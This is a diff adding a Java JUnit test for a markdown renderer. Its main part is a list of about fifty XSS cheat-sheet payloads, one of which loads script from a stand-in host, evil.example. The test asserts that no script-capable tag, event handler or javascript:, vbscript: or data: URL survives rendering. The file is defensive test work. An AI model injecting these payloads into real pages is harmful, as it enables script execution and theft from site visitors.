@@ -1,0 +1,142 @@
+package dev.mvpress.markdown;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.util.Locale;
+import java.util.stream.Stream;
+
+import org.jsoup.Jsoup;
+import org.jsoup.nodes.Attribute;
+import org.jsoup.nodes.Element;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.MethodSource;
+
+class MarkdownRendererTest {
+
+    private final MarkdownRenderer renderer = new MarkdownRenderer();
+
+    /** Payloads from common XSS cheat sheets, raw and inside markdown constructs. */
+    static Stream<String> xssPayloads() {
+        return Stream.of(
+                "<script>alert(1)</script>",
+                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+                "<img src=x onerror=alert(1)>",
+                "<img src=\"javascript:alert(1)\">",
+                "<IMG SRC=JaVaScRiPt:alert('XSS')>",
+                "<img src=\"jav&#x09;ascript:alert(1)\">",
+                "<body onload=alert(1)>",
+                "<svg onload=alert(1)>",
+                "<svg><script>alert(1)</script></svg>",
+                "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
+                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+                "<iframe src=\"javascript:alert(1)\"></iframe>",
+                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+                "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
+                "<embed src=\"javascript:alert(1)\">",
+                "<a href=\"javascript:alert(1)\">x</a>",
+                "<a href=\"JAVASCRIPT:alert(1)\">x</a>",
+                "<a href=\"&#106;avascript:alert(1)\">x</a>",
+                "<a href=\" javascript:alert(1)\">x</a>",
+                "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
+                "<a href=\"vbscript:msgbox(1)\">x</a>",
+                "[click](javascript:alert(1))",
+                "[click](JavaScript:alert(1))",
+                "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+                "![img](javascript:alert(1))",
+                "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
+                "[ref]\n\n[ref]: javascript:alert(1)",
+                "<div style=\"background:url(javascript:alert(1))\">x</div>",
+                "<p onclick=\"alert(1)\">click</p>",
+                "<input onfocus=alert(1) autofocus>",
+                "<details open ontoggle=alert(1)>",
+                "<form action=\"javascript:alert(1)\"><button>x</button></form>",
+                "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
+                "<base href=\"javascript:alert(1)//\">",
+                "<link rel=stylesheet href=\"javascript:alert(1)\">",
+                "<style>@import 'javascript:alert(1)';</style>",
+                "<scr<script>ipt>alert(1)</scr</script>ipt>",
+                "<img src=x onerror=alert(1)//",
+                "<<img src=x onerror=alert(1)>>",
+                "<a href=x onmouseover=alert(1)>x</a>",
+                "<video><source onerror=alert(1)></video>",
+                "<audio src=x onerror=alert(1)>",
+                "```html\n<script>alert(1)</script>\n```",
+                "`<script>alert(1)</script>`",
+                "<table><tr><td background=\"javascript:alert(1)\">x</td></tr></table>",
+                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
+                "<!--><img src=x onerror=alert(1)>-->",
+                "<code class=\"x\" onclick=\"alert(1)\">x</code>");
+    }
+
+    @ParameterizedTest
+    @MethodSource("xssPayloads")
+    void nothingExecutableSurvives(String payload) {
+        String html = renderer.render("Before\n\n" + payload + "\n\nAfter").html();
+        Element body = Jsoup.parseBodyFragment(html).body();
+        for (Element element : body.getAllElements()) {
+            String tag = element.tagName().toLowerCase(Locale.ROOT);
+            assertFalse(Stream.of("script", "iframe", "object", "embed", "svg", "math", "style", "form", "meta", "base",
+                    "link", "video", "audio", "source", "noscript").anyMatch(tag::equals), "tag " + tag + " in " + html);
+            for (Attribute attribute : element.attributes()) {
+                String name = attribute.getKey().toLowerCase(Locale.ROOT);
+                String value = attribute.getValue().toLowerCase(Locale.ROOT).replaceAll("\\s", "");
+                assertFalse(name.startsWith("on"), "event handler " + name + " in " + html);
+                assertFalse(name.equals("style") || name.equals("srcdoc") || name.equals("background"), name + " in " + html);
+                assertFalse(value.startsWith("javascript:") || value.startsWith("vbscript:") || value.startsWith("data:"),
+                        "dangerous URL in " + name + " of " + html);
+            }
+        }
+    }
+
+    @Test
+    void gitHubFlavourFeaturesRender() {
+        String html = renderer.render("""
+                # A heading
+
+                | a | b |
+                |:--|--:|
+                | 1 | 2 |
+
+                ~~gone~~ and https://example.com
+
+                - [x] done
+                - [ ] todo
+
+                ```java
+                var x = 1;
+                ```
+
+                [relative](/about) [anchor](#a-heading) <mailto:me@example.com>
+                """).html();
+        assertTrue(html.contains("<h1 id=\"a-heading\">A heading</h1>"), html);
+        assertTrue(html.contains("<table>") && html.contains("<td align=\"right\">2</td>"), html);
+        assertTrue(html.contains("<del>gone</del>"), html);
+        assertTrue(html.contains("<a href=\"https://example.com\">https://example.com</a>"), html);
+        assertTrue(html.contains("type=\"checkbox\"") && html.contains("checked"), html);
+        assertTrue(html.contains("<code class=\"language-java\">"), html);
+        assertTrue(html.contains("href=\"/about\"") && html.contains("href=\"#a-heading\""), html);
+        assertTrue(html.contains("href=\"mailto:me@example.com\""), html);
+    }
+
+    @Test
+    void wordsAndReadingTimeComeFromTheText() {
+        RenderedMarkdown rendered = renderer.render("# Title\n\nOne two three, four. **Five** — six!");
+        assertEquals(7, rendered.wordCount());
+        assertEquals(1, rendered.readingTimeMinutes());
+        assertEquals(0, renderer.render("").readingTimeMinutes());
+        assertEquals(3, renderer.render("word ".repeat(451)).readingTimeMinutes());
+    }
+
+    @Test
+    void excerptsAreAtMost300CharactersAndCutAtAWord() {
+        RenderedMarkdown rendered = renderer.render("lorem ipsum ".repeat(100));
+        String excerpt = rendered.excerpt(null);
+        assertTrue(excerpt.length() <= 300, excerpt.length() + "");
+        assertTrue(excerpt.endsWith("…"));
+        assertTrue(excerpt.startsWith("lorem ipsum lorem"));
+        assertEquals("Short summary", rendered.excerpt("  Short summary "));
+    }
+}
